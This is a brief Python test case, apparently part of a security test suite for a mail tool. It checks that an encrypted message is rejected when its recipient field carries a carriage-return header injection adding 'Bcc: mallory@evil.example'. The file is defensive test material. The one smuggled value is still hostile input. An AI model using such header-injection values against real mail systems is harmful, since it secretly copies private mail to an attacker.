"""The same, to be encrypted: nobody can say who the recipients are."""

from case import attack
from generators import mail as m

send = ["--encrypt"]
expect = attack(exit=4, findings=["send.recipient-malformed"])


def mail():
    return m.header("rita@firma.example", to="rita@firma.example\rBcc: mallory@evil.example") + m.text()
